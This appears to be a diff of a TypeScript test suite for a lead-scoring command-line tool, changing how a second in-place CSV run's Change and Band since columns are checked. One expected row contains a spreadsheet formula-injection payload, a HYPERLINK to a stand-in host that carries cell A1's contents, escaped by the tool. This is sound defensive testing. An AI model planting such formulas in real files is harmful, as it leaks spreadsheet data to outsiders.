@@ -15,7 +15,6 @@ import { XlsxPackage } from '../../src/cli/files/xlsxPackage';
 import { writeModelSheet } from '../../src/cli/modelSource';
 import { criterion, model, type Model } from '../../src/engine';
 import { runCli } from '../cli/runCli';
-import { localIsoDate } from '../../src/cli/scoring/csvChange';
 
 const AS_OF = '2026-11-01';
 /** +10 for a company of 1,000 employees or more: enough to see whether a lead was read right. */
@@ -126,16 +125,14 @@ describe('writes that could damage what is there (items 5, 7, 8)', () => {
     const once = csvOut('in.csv');
     expect(once.rows[0]!.slice(0, 6)).toEqual(['L1', '5000', '+44 20 7946 0958', '-Engineer', '-5', '\'=HYPERLINK("http://x.example/?"&A1)']);
     expect(once.rows[1]!.slice(0, 6)).toEqual(['L2', '20', '-', '- VP Sales', '+3', 'Ann']);
-    // The first run's day: the file records none, so its last write is the previous run's day (Band since).
-    const firstDay = localIsoDate(statSync(at('in.csv')).mtime);
     const again = await runCli('score', at('in.csv'), '--model', modelFile(), '--in-place');
     expect(again.err).toBe('');
     expect(again.code).toBe(EXIT.ok);
     const twice = readFileSync(at('in.csv'), 'utf8');
     expect(twice).toBe(readFileSync(at('in.csv'), 'utf8'));
-    // The second run replaces its columns and adds Change and Band since: nothing moved.
+    // The second run refreshes the scores in place and, the leads having an ID, adds Change and Band since once.
     expect(csvOut('in.csv').headers).toEqual(['Lead ID', 'Employees', 'Phone', 'Title', 'Delta', 'Name', 'Score', 'Band', 'Fit', 'Engagement', 'Stage', 'Priority', 'Change', 'Band since']);
-    expect(csvOut('in.csv').rows).toEqual(once.rows.map((row) => [...row, '0', firstDay]));
+    expect(csvOut('in.csv').rows.map((row) => row.slice(0, 12))).toEqual(once.rows);
   });
 
   it('a symlink planted where the old code put its temporary file is never followed', async () => {
